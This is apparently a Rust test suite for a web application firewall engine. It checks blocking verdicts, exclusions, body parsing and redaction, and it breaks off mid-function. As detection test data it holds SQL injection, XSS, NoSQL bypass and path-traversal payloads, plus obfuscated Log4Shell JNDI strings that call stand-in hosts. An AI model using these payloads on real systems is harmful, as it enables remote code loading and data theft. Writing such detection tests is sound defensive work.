//! End-to-end behaviour of the engine: verdicts, modes, settings, exclusions, bodies,
//! redaction and explanations.

use palisade_waf::{
    Action, Engine, Exclusion, Mode, OverLimit, Request, RouteSettings, RuleSet, WafSettings,
};

/// The ids of the rules that matched `req`, sorted.
fn fired_rules(e: &Engine, req: &Request<'_>, settings: &WafSettings) -> Vec<u32> {
    let mut ids: Vec<u32> = e
        .inspect(req, settings, None)
        .matches
        .iter()
        .map(|m| m.rule_id)
        .collect();
    ids.sort_unstable();
    ids
}

/// The ids of the rules of the rule file `yaml` that fire on a GET whose header
/// `x-probe` holds a given value.
fn header_prober(file: &str, yaml: &str) -> impl Fn(&[u8]) -> Vec<u32> {
    let e = Engine::new(RuleSet::from_yaml(file, yaml).expect("compiles"));
    move |value| {
        let req = Request::new("GET", "/").header("x-probe", value);
        fired_rules(&e, &req, &WafSettings::default())
    }
}

fn engine() -> Engine {
    Engine::new(RuleSet::embedded().expect("embedded rules compile"))
}

#[test]
fn benign_request_passes_and_sqli_is_blocked_with_explanation() {
    let e = engine();
    let s = WafSettings::default();
    let ok = Request::new("GET", "/search?q=the+best+coffee+in+town&page=2")
        .header("host", b"shop")
        .header("user-agent", b"Mozilla/5.0");
    let v = e.inspect(&ok, &s, None);
    assert_eq!(v.action, Action::Pass, "{:?}", v.matches);
    assert!(v.matches.is_empty());

    let bad = Request::new("GET", "/search?q=1%27%20OR%20%271%27%3D%271").header("host", b"shop");
    let v = e.inspect(&bad, &s, None);
    assert_eq!(v.action, Action::Block);
    assert_eq!(v.status(), Some(403));
    assert!(v.score >= 5);
    let m = v
        .matches
        .iter()
        .find(|m| m.rule_id == 4201)
        .expect("sqli detector fired");
    assert_eq!(m.target, "query_arg:q");
    assert!(m.fragment.contains("OR"), "{}", m.fragment);
    assert!(m.tags.iter().any(|t| t == "sqli"));
}

#[test]
fn modes_off_and_detect() {
    let e = engine();
    let bad = Request::new("GET", "/?x=%3Cscript%3Ealert(1)%3C/script%3E");
    let detect = WafSettings {
        mode: Mode::Detect,
        ..WafSettings::default()
    };
    let v = e.inspect(&bad, &detect, None);
    assert_eq!(v.action, Action::Detect);
    assert_eq!(v.status(), None);
    assert!(!v.matches.is_empty());
    let off = WafSettings {
        mode: Mode::Off,
        ..WafSettings::default()
    };
    let v = e.inspect(&bad, &off, None);
    assert_eq!(v.action, Action::Pass);
    assert!(v.matches.is_empty());
}

#[test]
fn exclusions_by_rule_argument_and_route() {
    let e = engine();
    let req = Request::new("POST", "/posts")
        .header("content-type", b"application/x-www-form-urlencoded")
        .body(b"title=hi&body=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let base = WafSettings::default();
    assert_eq!(e.inspect(&req, &base, None).action, Action::Block);

    let by_arg = WafSettings {
        exclusions: vec![Exclusion {
            args: vec!["body".into()],
            ..Exclusion::default()
        }],
        ..WafSettings::default()
    };
    let v = e.inspect(&req, &by_arg, None);
    assert_eq!(v.action, Action::Pass, "{:?}", v.matches);

    let by_tag = WafSettings {
        exclusions: vec![Exclusion {
            tags: vec!["xss".into()],
            ..Exclusion::default()
        }],
        ..WafSettings::default()
    };
    assert_eq!(e.inspect(&req, &by_tag, None).action, Action::Pass);

    let ids: Vec<u32> = e
        .inspect(&req, &base, None)
        .matches
        .iter()
        .map(|m| m.rule_id)
        .collect();
    let by_route = WafSettings {
        exclusions: vec![Exclusion {
            rules: ids,
            routes: vec!["cms".into()],
            ..Exclusion::default()
        }],
        ..WafSettings::default()
    };
    assert_eq!(e.inspect(&req, &by_route, Some("cms")).action, Action::Pass);
    assert_eq!(
        e.inspect(&req, &by_route, Some("api")).action,
        Action::Block
    );
    assert_eq!(e.inspect(&req, &by_route, None).action, Action::Block);
}

#[test]
fn route_overrides_mode_paranoia_and_threshold() {
    let e = engine();
    let mut s = WafSettings::default();
    s.routes.insert(
        "legacy".into(),
        RouteSettings {
            mode: Some(Mode::Detect),
            ..RouteSettings::default()
        },
    );
    s.routes.insert(
        "strict".into(),
        RouteSettings {
            paranoia: Some(2),
            ..RouteSettings::default()
        },
    );
    s.routes.insert(
        "lenient".into(),
        RouteSettings {
            threshold: Some(100),
            ..RouteSettings::default()
        },
    );
    let bad = Request::new("GET", "/?id=1%20union%20select%20password%20from%20users");
    assert_eq!(e.inspect(&bad, &s, Some("legacy")).action, Action::Detect);
    assert_eq!(e.inspect(&bad, &s, Some("lenient")).action, Action::Pass);
    assert_eq!(e.inspect(&bad, &s, None).action, Action::Block);
    // A paranoia-2 rule (single ../ in an argument) fires only on the strict route.
    let p2 = Request::new("GET", "/?file=..%2Fconfig.yml");
    assert_eq!(e.inspect(&p2, &s, None).action, Action::Pass);
    assert_eq!(e.inspect(&p2, &s, Some("strict")).action, Action::Block);
}

#[test]
fn secrets_are_redacted_in_matches() {
    let e = engine();
    let req = Request::new("GET", "/")
        .header("authorization", b"Bearer ${jndi:ldap://evil/a}")
        .header("cookie", b"session=${jndi:ldap://evil/b}")
        .header("x-api-version", b"${jndi:ldap://evil/c}");
    let v = e.inspect(&req, &WafSettings::default(), None);
    assert_eq!(v.action, Action::Block);
    for m in &v.matches {
        if m.target == "header:authorization"
            || m.target.starts_with("cookie")
            || m.target == "header:cookie"
        {
            assert_eq!(m.fragment, "[redacted]", "{m:?}");
        }
    }
    assert!(v
        .matches
        .iter()
        .any(|m| m.target == "header:x-api-version" && m.fragment.contains("jndi")));
    assert!(!format!("{:?}", v.matches).contains("evil/a"));
}

#[test]
fn body_limit_rejects_or_inspects_prefix() {
    let e = engine();
    let mut body = b"a=".to_vec();
    body.extend(std::iter::repeat_n(b'x', 100));
    body.extend_from_slice(b"&b=%3Cscript%3E");
    let req = Request::new("POST", "/f")
        .header("content-type", b"application/x-www-form-urlencoded")
        .body(&body);
    let reject = WafSettings {
        body_limit: 50,
        ..WafSettings::default()
    };
    let v = e.inspect(&req, &reject, None);
    assert_eq!(v.action, Action::Block);
    assert!(v.body_over_limit);
    assert_eq!(v.status(), Some(413));
    let prefix = WafSettings {
        body_limit: 50,
        over_limit: OverLimit::InspectPrefix,
        ..WafSettings::default()
    };
    assert_eq!(e.inspect(&req, &prefix, None).action, Action::Pass);
    let whole = WafSettings::default();
    assert_eq!(e.inspect(&req, &whole, None).action, Action::Block);
}

#[test]
fn json_and_multipart_bodies_are_inspected_by_name() {
    let e = engine();
    let json = br#"{"user":{"profile":{"bio":"<img src=x onerror=alert(1)>"}},"tags":["a","b"]}"#;
    let req = Request::new("POST", "/api")
        .header("content-type", b"application/json")
        .body(json);
    let v = e.inspect(&req, &WafSettings::default(), None);
    assert_eq!(v.action, Action::Block);
    assert!(
        v.matches
            .iter()
            .any(|m| m.target == "body_arg:user.profile.bio"),
        "{:?}",
        v.matches
    );

    let nosql = br#"{"user":"admin","password":{"$ne":null}}"#;
    let req = Request::new("POST", "/login")
        .header("content-type", b"application/json")
        .body(nosql);
    assert_eq!(
        e.inspect(&req, &WafSettings::default(), None).action,
        Action::Block
    );

    let mp = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\n\r\ndata\r\n--b--\r\n";
    let req = Request::new("POST", "/upload")
        .header("content-type", b"multipart/form-data; boundary=b")
        .body(mp);
    let v = e.inspect(&req, &WafSettings::default(), None);
    assert!(
        v.matches.iter().any(|m| m.target == "file_name:f"),
        "{:?}",
        v.matches
    );
}

#[test]
fn fragments_are_truncated_to_64_bytes() {
    let e = engine();
    let long = format!("/?q=%3Cscript%3E{}", "A".repeat(300));
    let req = Request::new("GET", &long);
    let v = e.inspect(&req, &WafSettings::default(), None);
    assert!(!v.matches.is_empty());
    assert!(v.matches.iter().all(|m| m.fragment.len() <= 64 * 4));
    assert!(v.matches.iter().all(|m| m.fragment.chars().count() <= 64));
}

#[test]
fn log4shell_in_any_header_and_obfuscated() {
    let e = engine();
    for (h, val) in [
        ("user-agent", "${jndi:ldap://x/a}"),
        ("x-forwarded-for", "${${lower:j}ndi:ldap://x/a}"),
        ("referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
        ("x-custom", "${j${env:X:-n}di:dns://x}"),
    ] {
        let req = Request::new("GET", "/").header(h, val.as_bytes());
        assert_eq!(
            e.inspect(&req, &WafSettings::default(), None).action,
            Action::Block,
            "{h}: {val}"
        );
    }
}

#[test]
fn settings_default_from_empty_document() {
    let s: WafSettings = serde_json::from_str("{}").expect("empty settings parse");
    assert_eq!(s, WafSettings::default());
    assert_eq!(s.mode, Mode::Block);
    assert_eq!(s.paranoia, 1);
    assert_eq!(s.threshold, 5);
    let round: WafSettings =
        serde_json::from_str(&serde_json::to_string(&s).expect("serialize")).expect("parse");
    assert_eq!(round, s);
}

#[test]
fn gzip_bodies_are_inspected_and_bombs_refused() {
    use std::io::Write;
    let gzip = |data: &[u8]| {
        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        enc.write_all(data).expect("compress");
        enc.finish().expect("finish")
    };
    let e = engine();
    let body = gzip(b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let req = Request::new("POST", "/c")
        .header("content-type", b"application/x-www-form-urlencoded")
        .header("content-encoding", b"gzip")
        .body(&body);
    let v = e.inspect(&req, &WafSettings::default(), None);
    assert_eq!(v.action, Action::Block);
    assert!(
        v.matches.iter().any(|m| m.target == "body_arg:comment"),
        "{:?}",
        v.matches
    );

    let bomb = gzip(&vec![b'a'; 1 << 20]);
    let req = Request::new("POST", "/c")
        .header("content-encoding", b"gzip")
        .body(&bomb);
    let v = e.inspect(&req, &WafSettings::default(), None);
    assert_eq!(v.status(), Some(413));

    let req = Request::new("POST", "/c")
        .header("content-encoding", b"gzip")
        .body(b"garbage");
    assert_eq!(
        e.inspect(&req, &WafSettings::default(), None).status(),
        Some(400)
    );
}

#[test]
fn sql_keywords_inside_longer_keywords_still_wake_the_tokenizer() {
    // The prefilter skips keyword hits glued inside longer words (`or` in `door`), but a
    // keyword may be the start of a longer keyword: `exec` in `execute`.
    let e = engine();
    let s = WafSettings::default();
    for attack in [
        "/run?q=1%3B%20execute%20purge_all_orders",
        "/run?q=1%3B%20EXECUTE%20purge_all_orders",
    ] {
        let v = e.inspect(
            &Request::new("GET", attack).header("host", b"shop"),
            &s,
            None,
        );
        assert!(
            v.matches.iter().any(|m| m.rule_id == 4201),
            "{attack}: {:?}",
            v.matches
        );
    }
    let prose =
        Request::new("GET", "/search?q=the+door+is+ordered+for+execution").header("host", b"shop");
    assert_eq!(e.inspect(&prose, &s, None).action, Action::Pass);
}

#[test]
fn sql_keywords_after_a_mysql_version_comment_still_wake_the_tokenizer() {
    let e = engine();
    let s = WafSettings::default();
    let attack = Request::new(
        "GET",
        "/item?id=1%20/*!50000union*/%20/*!50000select*/%201,2",
    )
    .header("host", b"shop");
    let v = e.inspect(&attack, &s, None);
    assert!(
        v.matches.iter().any(|m| m.rule_id == 4201),
        "{:?}",
        v.matches
    );
}

#[test]
fn text_bodies_of_unparsed_types_are_still_inspected_binary_ones_are_not() {
    let e = engine();
    let s = WafSettings::default();
    let form = b"user=admin&pass=1' OR '1'='1";
    for ct in [&b"application/x-anything"[..], b"application/octet-stream"] {
        let req = Request::new("POST", "/login")
            .header("host", b"shop")
            .header("content-type", ct)
            .body(form);
        let v = e.inspect(&req, &s, None);
        assert_eq!(v.action, Action::Block, "{:?}", String::from_utf8_lossy(ct));
        assert!(
            v.matches.iter().any(|m| m.target == "body_arg"),
            "{:?}",
            v.matches
        );
    }
    // A gRPC frame: binary, left to the raw-body rules, and passed.
    let grpc = b"\x00\x00\x00\x00\x0b\x0a\x09\xff\xfe'OR'1'='1";
    let req = Request::new("POST", "/pkg.Service/Call")
        .header("host", b"shop")
        .header("content-type", b"application/grpc")
        .body(grpc);
    assert_eq!(e.inspect(&req, &s, None).action, Action::Pass);
}

#[test]
fn rule_sets_with_more_chains_than_masks_hold_still_find_every_rule() {
    // 65 distinct transformation chains: more than the engine's 64-bit chain masks, so it
    // falls back to looking at every chain.
    let mut yaml = String::from("rules:\n");
    for k in 1..=65u32 {
        let transforms = vec!["lowercase"; k as usize].join(", ");
        yaml.push_str(&format!(
            "  - id: {k}\n    message: probe {k}\n    tags: [probe]\n    severity: critical\n    \
             targets: [args]\n    transforms: [{transforms}]\n    operator:\n      \
             literals: [\"probe{k}x\"]\n"
        ));
    }
    let set = RuleSet::from_yaml("chains.yaml", &yaml).expect("65 chains compile");
    assert_eq!(set.chain_count(), 65);
    let e = Engine::new(set);
    let s = WafSettings::default();
    for k in [1u32, 64, 65] {
        let target = format!("/?q=a+PROBE{k}X+b");
        let v = e.inspect(&Request::new("GET", &target), &s, None);
        assert_eq!(v.action, Action::Block, "rule {k}: {:?}", v.matches);
        assert!(v.matches.iter().any(|m| m.rule_id == k), "{:?}", v.matches);
    }
    let v = e.inspect(&Request::new("GET", "/?q=probe"), &s, None);
    assert_eq!(v.action, Action::Pass);
}

#[test]
fn a_repeated_body_value_is_inspected_once_per_name() {
    let e = engine();
    let s = WafSettings::default();
    let body = br#"{"a":["<script>alert(1)</script>","<script>alert(1)</script>"],"b":"<script>alert(1)</script>"}"#;
    let req = Request::new("POST", "/api")
        .header("content-type", b"application/json")
        .body(body);
    let v = e.inspect(&req, &s, None);
    assert_eq!(v.action, Action::Block);
    let targets: Vec<&str> = v
        .matches
        .iter()
        .filter(|m| m.rule_id == 4101)
        .map(|m| m.target.as_str())
        .collect();
    // The same bytes under the same name once; under another name again.
    assert_eq!(targets, ["body_arg:a", "body_arg:b"], "{:?}", v.matches);
}

#[test]
fn rules_on_named_headers_see_only_those_headers_at_their_paranoia() {
    let yaml = r#"rules:
  - id: 1
    message: named header
    tags: [probe]
    severity: critical
    targets: ["header:X-Probe"]
    operator:
      literals: ["namedhit"]
  - id: 2
    message: every header, paranoia 2
    tags: [probe]
    severity: critical
    paranoia: 2
    targets: [headers]
    operator:
      literals: ["everyhit"]
"#;
    let e = Engine::new(RuleSet::from_yaml("headers.yaml", yaml).expect("compiles"));
    let fired = |header: &str, value: &[u8], paranoia: u8| -> Vec<u32> {
        let req = Request::new("GET", "/").header(header, value);
        let s = WafSettings::default().with_paranoia(paranoia);
        e.inspect(&req, &s, None)
            .matches
            .iter()
            .map(|m| m.rule_id)
            .collect::<std::collections::BTreeSet<u32>>()
            .into_iter()
            .collect()
    };
    assert_eq!(fired("x-probe", b"a namedhit", 1), vec![1]);
    assert_eq!(fired("X-PROBE", b"a NAMEDHIT", 1), vec![1]);
    assert!(fired("x-other", b"a namedhit", 4).is_empty());
    assert!(fired("x-other", b"a everyhit", 1).is_empty());
    assert_eq!(fired("x-other", b"a everyhit", 2), vec![2]);
    assert_eq!(fired("x-probe", b"everyhit namedhit", 2), vec![1, 2]);
}

#[test]
fn hostile_bytes_in_every_part_of_a_request_get_a_verdict_not_a_panic() {
    // Pseudo-random requests built from fragments that stress the parsers and the
    // scanner: JSON punctuation and escapes, quotes, percent and entity escapes, NUL and
    // high bytes, comment openers, long runs (bodies past the scanner's halving length).
    const PIECES: &[&[u8]] = &[
        b"{",
        b"}",
        b"[",
        b"]",
        b"\"",
        b":",
        b",",
        b"\\",
        b"\\u00",
        b"\\ud83d",
        b"'",
        b"%",
        b"%2",
        b"%u00",
        b"&#",
        b"&lt;",
        b"\0",
        b"\xc0\xae",
        b"\xff",
        b" ",
        b"  ",
        b"\t",
        b"--",
        b"/*",
        b"#",
        b"-",
        b"a",
        b"select",
        b"<script>",
        b"${jndi:",
        b"=",
        b";",
        b"aGVsbG8gd29ybGQ=",
        b"0123456789",
        b"\r\n",
    ];
    let e = engine();
    let mut state = 0x9e37_79b9_u32;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state as usize
    };
    for round in 0..400 {
        let mut body = Vec::new();
        let pieces = if round % 10 == 0 { 600 } else { next() % 60 };
        for _ in 0..pieces {
            body.extend_from_slice(PIECES[next() % PIECES.len()]);
        }
        let header: Vec<u8> = (0..next() % 12)
            .flat_map(|_| PIECES[next() % PIECES.len()].iter().copied())
            .collect();
        let ct: &[u8] = match round % 4 {
            0 => b"application/json",
            1 => b"application/x-www-form-urlencoded",
            2 => b"text/plain",
            _ => b"application/xml",
        };
        let req = Request::new("POST", "/api?q=%27%20or%201=1&x=%u0041")
            .header("content-type", ct)
            .header("user-agent", &header)
            .header("cookie", &header)
            .body(&body);
        for paranoia in [1, 2, 4] {
            let s = WafSettings::default().with_paranoia(paranoia);
            let v = e.inspect(&req, &s, None);
            assert!(
                v.matches.len() <= palisade_waf::MATCHES_MAX,
                "round {round}"
            );
        }
    }
}

/// Body values take their literal hits from one walk over the body, which leaves out the
/// literals holding `"` or `\`; these cases must still find every hit a walk of the
/// value alone finds.
#[test]
fn body_values_find_every_literal_whatever_their_bytes_and_body_type() {
    let yaml = r#"rules:
  - id: 1
    message: quoted literal
    tags: [probe]
    severity: critical
    targets: [args, arg_names]
    operator:
      literals: ['a"b', 'c\d']
  - id: 2
    message: plain literal, whole words
    tags: [probe]
    severity: critical
    targets: [args]
    operator:
      literals: [probe]
  - id: 3
    message: raw body literal
    tags: [probe]
    severity: critical
    targets: [body_raw]
    operator:
      literals: ['":"zz']
  - id: 4
    message: literal across an argument boundary
    tags: [probe]
    severity: critical
    targets: [arg_names]
    operator:
      literals: ['o&r']
"#;
    let e = Engine::new(RuleSet::from_yaml("body.yaml", yaml).expect("compiles"));
    let s = WafSettings::default();
    let fired = |ct: &str, body: &[u8]| -> Vec<(u32, String, String)> {
        let req = Request::new("POST", "/")
            .header("content-type", ct.as_bytes())
            .body(body);
        let mut m: Vec<_> = e
            .inspect(&req, &s, None)
            .matches
            .into_iter()
            .map(|m| (m.rule_id, m.target, m.fragment))
            .collect();
        m.sort();
        m
    };
    let form = "application/x-www-form-urlencoded";
    // A form value holds the quote itself, so it is walked on its own.
    assert_eq!(
        fired(form, br#"q=xa"by"#),
        [(1, "body_arg:q".into(), r#"a"b"#.into())]
    );
    assert_eq!(
        fired(form, br"q=xc\dy"),
        [(1, "body_arg:q".into(), r"c\d".into())]
    );
    assert_eq!(
        fired(form, br#"a"b=1"#),
        [(1, "body_arg_name".into(), r#"a"b"#.into())]
    );
    // In JSON, through an escape (the value is a copy, not borrowed from the body).
    let json = "application/json";
    assert_eq!(
        fired(json, br#"{"q":"xa\"by","k":"c\\d"}"#),
        [
            (1, "body_arg:k".into(), r"c\d".into()),
            (1, "body_arg:q".into(), r#"a"b"#.into())
        ]
    );
    // A hit that starts in one value and ends in the next (the name `r`) is neither's.
    assert_eq!(fired(form, b"a=o&r=1"), []);
    assert_eq!(
        fired(form, b"a=1&o%26r=1"),
        [(4, "body_arg_name".into(), "o&r".into())]
    );
    // Words in separate JSON values do not join; the raw body still sees its own hits.
    assert_eq!(
        fired(json, br#"{"q":"zz","r":"pro","s":"be probe"}"#),
        [
            (2, "body_arg:s".into(), "probe".into()),
            (3, "body".into(), r#"":"zz"#.into())
        ]
    );
    // The same bytes as text: one value, the whole body.
    assert_eq!(
        fired("text/plain", b"a probe"),
        [(2, "body_arg".into(), "probe".into())]
    );
}

/// Past the hits one body walk keeps, values are walked on their own: a body made of
/// hits cannot hide an attack at its end, nor grow the engine's memory with its size.
#[test]
fn a_body_full_of_literal_hits_is_still_inspected_to_its_end() {
    let e = engine();
    let s = WafSettings {
        body_limit: 1 << 20,
        ..WafSettings::default()
    };
    let mut body = String::from("{\"notes\":[");
    // 1,000 values (under the arguments' limit) of 20 hits each.
    for _ in 0..1000 {
        body.push_str("\"don't; ' or ; ' ' ' ' ' ' ' ' ' ' ' ' ' ' ' '\",");
    }
    body.push_str("\"x\"],\"q\":\"1' UNION SELECT password FROM users--\"}");
    let req = Request::new("POST", "/api")
        .header("content-type", b"application/json")
        .body(body.as_bytes());
    let v = e.inspect(&req, &s, None);
    assert_eq!(v.action, Action::Block, "{:?}", v.matches);
    assert!(
        v.matches.iter().any(|m| m.target == "body_arg:q"),
        "{:?}",
        v.matches
    );
}

/// Chains that start with the same step share its result for one value, never across
/// values: each value's decoding is its own.
#[test]
fn chains_sharing_a_first_step_see_each_values_own_result() {
    let yaml = r#"rules:
  - id: 1
    message: decoded
    tags: [probe]
    severity: critical
    targets: [headers]
    transforms: [url_decode]
    operator:
      literals: [alpha]
  - id: 2
    message: decoded, spaces compressed
    tags: [probe]
    severity: critical
    targets: [headers]
    transforms: [url_decode, compress_whitespace]
    operator:
      literals: ["beta gamma"]
"#;
    let e = Engine::new(RuleSet::from_yaml("first.yaml", yaml).expect("compiles"));
    // Headers, because argument values arrive URL-decoded already.
    let req = Request::new("GET", "/")
        .header("x-q", b"%61lpha%20%20x")
        .header("x-r", b"beta%20%20gamma")
        .header("x-s", b"%61lph%61");
    let mut fired: Vec<(u32, String)> = e
        .inspect(&req, &WafSettings::default(), None)
        .matches
        .into_iter()
        .map(|m| (m.rule_id, m.target))
        .collect();
    fired.sort();
    assert_eq!(
        fired,
        [
            (1, "header:x-q".to_string()),
            (1, "header:x-s".to_string()),
            (2, "header:x-r".to_string())
        ]
    );
}

/// A chain that leaves a value as it is and whose literals the value lacks is skipped
/// unless one of its unconditional rules targets the value's kind at the request's
/// paranoia and admits the value's bytes: each of those still runs, whether the chains
/// are picked before the value's scan (rules 1 to 3 alone) or after it (rule 4, in a
/// chain of its own, makes the engine scan every argument and header first).
#[test]
fn unconditional_rules_run_on_values_their_chain_leaves_unchanged() {
    let yaml = r#"rules:
  - id: 1
    message: six digits in one header
    tags: [probe]
    severity: critical
    targets: ["header:x-probe"]
    transforms: [url_decode]
    operator:
      regex: '\d{6}'
  - id: 2
    message: three marks in an argument, paranoia 2
    tags: [probe]
    severity: critical
    paranoia: 2
    targets: [args]
    transforms: [url_decode]
    operator:
      regex: '[@!]{3}'
  - id: 3
    message: a literal in an argument
    tags: [probe]
    severity: critical
    targets: [args]
    transforms: [url_decode]
    operator:
      literals: [zeta]
"#;
    let scanned_first = r#"
  - id: 4
    message: a literal in another chain
    tags: [probe]
    severity: critical
    targets: [args, headers]
    operator:
      literals: [omega]
"#;
    for yaml in [yaml.to_string(), format!("{yaml}{scanned_first}")] {
        let e = Engine::new(RuleSet::from_yaml("unconditional.yaml", &yaml).expect("compiles"));
        let fired = |req: &Request<'_>, paranoia: u8| {
            fired_rules(&e, req, &WafSettings::default().with_paranoia(paranoia))
        };
        let header = |name: &'static str| Request::new("GET", "/").header(name, b"order 123456");
        assert_eq!(fired(&header("x-probe"), 1), [1]);
        assert!(fired(&header("x-other"), 4).is_empty());
        let args = Request::new("GET", "/?a=hey!@!&b=zeta");
        assert_eq!(fired(&args, 1), [3]);
        assert_eq!(fired(&args, 2), [2, 3]);
        assert_eq!(fired(&args, 4), [2, 3]);
        assert!(fired(&Request::new("GET", "/?a=hey!@"), 4).is_empty());
    }
}

/// Chains that only drop whitespace or NULs, fold case or compress whitespace are skipped
/// when the transformed copy could hold none of their literals; a literal that the
/// dropped or compressed bytes split in the value must still be found.
#[test]
fn literals_split_by_bytes_a_chain_drops_or_compresses_are_found() {
    let yaml = r#"rules:
  - id: 1
    message: whitespace removed
    tags: [probe]
    severity: critical
    targets: [args, headers]
    transforms: [remove_whitespace]
    operator:
      literals: ["alert("]
  - id: 2
    message: NULs removed, lowercased
    tags: [probe]
    severity: critical
    targets: [args, headers]
    transforms: [remove_nulls, lowercase]
    operator:
      literals: [zeta]
  - id: 3
    message: whitespace compressed
    tags: [probe]
    severity: critical
    targets: [args, headers]
    transforms: [compress_whitespace]
    operator:
      literals: ["beta gamma"]
"#;
    let fired = header_prober("dropped.yaml", yaml);
    assert_eq!(fired(b"x = al ert\t(1)"), [1]);
    assert_eq!(fired(b"a ZE\0Ta b"), [2]);
    assert_eq!(fired(b"Beta \t Gamma"), [3]);
    assert_eq!(fired(b"al\0ert( ze ta beta\0gamma"), Vec::<u32>::new());
    assert!(fired(b"an alert about zeal, beta and gamma").is_empty());
}

#[test]
fn required_words_wake_a_regex_only_where_they_stand_as_words() {
    let yaml =
        "rules:\n  - id: 77\n    message: probe\n    tags: [probe]\n    severity: critical\n    \
                targets: [args]\n    transforms: [url_decode]\n    operator:\n      \
                regex: 'x'\n      requires_words: [cat, python]\n";
    let e = Engine::new(RuleSet::from_yaml("words.yaml", yaml).expect("rule compiles"));
    let s = WafSettings::default();
    let query = |value: &str| {
        let target = format!("/?q={value}");
        fired_rules(&e, &Request::new("GET", &target), &s)
    };
    for woken in [
        "cat+x",
        "x%3Bcat",
        "CAT+x",
        "python3+x",
        "(cat)x",
        "%63at+x",
    ] {
        assert_eq!(query(woken), [77], "{woken}");
    }
    for asleep in ["concat+x", "cats+x", "cat_x", "x_cat", "x9cat", "pythonx"] {
        assert!(query(asleep).is_empty(), "{asleep}");
    }
    // Values borrowed from a JSON body take their hits from the body's one walk; a value
    // with an escape is walked on its own: both judge the word within the value.
    let json = |body: &str| {
        let req = Request::new("POST", "/")
            .header("content-type", b"application/json")
            .body(body.as_bytes());
        fired_rules(&e, &req, &s)
    };
    assert_eq!(json(r#"{"a":"cat x"}"#), [77]);
    assert_eq!(json(r#"{"a":"cat \"x"}"#), [77]);
    assert_eq!(json(r#"{"a":"bobcat","b":"cat"}"#), Vec::<u32>::new());
    assert!(json(r#"{"a":"xcat x"}"#).is_empty());
    assert!(json(r#"{"a":"concat \"x"}"#).is_empty());
}

#[test]
fn chains_left_by_their_shared_first_step_share_one_scan_of_it() {
    let rule = |id: u32, transforms: &str, literal: &str| {
        format!(
            "  - id: {id}\n    message: probe {id}\n    tags: [probe]\n    severity: notice\n    \
             targets: [args]\n    transforms: [{transforms}]\n    operator:\n      \
             literals: [\"{literal}\"]\n"
        )
    };
    let yaml = [
        "rules:\n".to_string(),
        rule(1, "url_decode", "<b>"),
        rule(2, "html_entity_decode", "<i>"),
        rule(3, "url_decode, remove_nulls", "<b>"),
        rule(4, "url_decode", "zzz"),
        rule(5, "lowercase", "%25"),
        rule(6, "url_decode, html_entity_decode", "<x>"),
    ]
    .concat();
    let e = Engine::new(RuleSet::from_yaml("steps.yaml", &yaml).expect("rules compile"));
    let s = WafSettings::default();
    let json = |body: &str| {
        let req = Request::new("POST", "/")
            .header("content-type", b"application/json")
            .body(body.as_bytes());
        fired_rules(&e, &req, &s)
    };
    // Rules 1 and 3 see the URL-decoded value; rule 2's chain decodes entities in
    // between, which replaces the shared step's result: rule 3 must not see rule 2's.
    assert_eq!(json(r#"{"q":"%3Cb%3E&lt;i&gt;"}"#), [1, 2, 3]);
    // The raw value holds rule 5's `%25` and so does its decoded form: the shared scan of
    // the decoded form must not take the raw scan's record of that hit.
    assert_eq!(json(r#"{"q":"%2525"}"#), [5]);
    // The later steps are skipped by the classes of the first step's result, not the
    // input's: the `&` appears only once the value is URL-decoded.
    assert_eq!(json(r#"{"q":"%26lt;x%26gt;"}"#), [6]);
}

#[test]
fn session_ids_as_arguments_count_only_without_a_referer_from_the_site() {
    let e = engine();
    let s = WafSettings::default();
    let login = |referer: Option<&'static [u8]>| {
        let req = Request::new("GET", "/login?JSESSIONID=74B0CB414BD7&next=/home")
            .header("host", b"shop.example.com:8443");
        match referer {
            Some(r) => req.header("referer", r),
            None => req,
        }
    };
    for (referer, blocked) in [
        (None, true),
        (Some(&b"https://evil.example.net/mail"[..]), true),
        (Some(b"https://shop.example.com.evil.net/"), true),
        (Some(b"https://shop.example.com/cart"), false),
        (Some(b"https://www.shop.example.com/"), false),
    ] {
        let v = e.inspect(&login(referer), &s, None);
        let fired = v.matches.iter().any(|m| m.rule_id == 1034);
        assert_eq!(fired, blocked, "{referer:?}: {:?}", v.matches);
        assert_eq!(v.action == Action::Block, blocked, "{referer:?}");
    }
    let json = Request::new("POST", "/api")
        .header("content-type", b"application/json")
        .body(br#"{"jsessionid": "foo"}"#);
    assert_eq!(fired_rules(&e, &json, &s), vec![1034]);
    let api = Request::new("POST", "/api")
        .header("content-type", b"application/json")
        .body(br#"{"session_id": "foo", "sid": 3}"#);
    assert!(fired_rules(&e, &api, &s).is_empty());
}

#[test]
fn bodies_on_head_and_non_json_bodies_on_get_are_refused() {
    let e = engine();
    let s = WafSettings::default();
    let fired =
        |method: &'static str, headers: &[(&'static str, &'static [u8])], body: &'static [u8]| {
            let mut req = Request::new(method, "/search").body(body);
            for (n, v) in headers {
                req = req.header(n, v);
            }
            fired_rules(&e, &req, &s)
        };
    let form: &[(&str, &[u8])] = &[("content-type", b"application/x-www-form-urlencoded")];
    assert_eq!(fired("HEAD", form, b"a=1"), vec![1039]);
    assert_eq!(fired("HEAD", &[], b"x"), vec![1039]);
    assert!(fired("HEAD", &[], b"").is_empty());
    assert_eq!(fired("GET", form, b"a=1"), vec![1040]);
    assert_eq!(
        fired("GET", &[("content-type", b"text/plain")], b"hello"),
        vec![1040]
    );
    assert_eq!(
        fired("GET", &[("transfer-encoding", b"chunked")], b"hello"),
        vec![1040]
    );
    // Elasticsearch-style searches: JSON, declared or not.
    let query: &[u8] = br#"{"query": {"match": {"title": "palisade"}}}"#;
    assert!(fired("GET", &[("content-type", b"application/json")], query).is_empty());
    assert!(fired("GET", &[], query).is_empty());
    // What the framing does not announce is not the request's body.
    assert!(fired(
        "GET",
        &[("content-length", b"0"), ("content-type", b"text/plain")],
        b"x"
    )
    .is_empty());
    assert!(fired("GET", form, b"").is_empty());
    assert!(fired("POST", form, b"a=1").is_empty());
}

/// Rules that judge captures report the judged part: the method outside the allow list,
/// the charset outside it (lowercased by the rule), the range whose end precedes its
/// start. Allowed values in the same headers pass.
#[test]
fn allow_lists_and_comparisons_report_what_they_judged() {
    let e = engine();
    let s = WafSettings::default();
    let fragments = |req: &Request<'_>| -> Vec<(u32, String)> {
        e.inspect(req, &s, None)
            .matches
            .into_iter()
